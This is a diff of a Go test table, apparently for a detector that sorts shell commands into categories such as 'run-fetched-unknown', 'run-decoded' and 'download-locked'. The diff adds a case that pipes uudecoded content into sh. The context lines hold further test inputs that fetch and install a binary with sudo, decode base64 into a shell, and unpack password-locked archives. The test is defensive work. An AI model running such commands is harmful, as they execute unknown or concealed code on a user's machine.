@@ -65,6 +65,7 @@ func TestDetours(t *testing.T) {
 		{"curl -so kit " + u + " && sudo install -m 755 kit /usr/local/bin/ && kit", "run-fetched-unknown"},
 		{"echo " + b + " > f; openssl base64 -d -in f -out g; sh g", "run-decoded"},
 		{"python3 -m base64 -d f | sh", "run-decoded"},
+		{"uudecode -o - x.uu | sh", "run-decoded"},
 		{"curl -LO https://tools.acme-files.net/t.zip\nunzip -P 1234 t.zip", "download-locked"},
 		{"wget https://tools.acme-files.net/t.7z && 7z x -p1234 t.7z", "download-locked"},
 		{"wget https://example.com/t.7z && 7z x -p1234 t.7z", "download-locked?"},
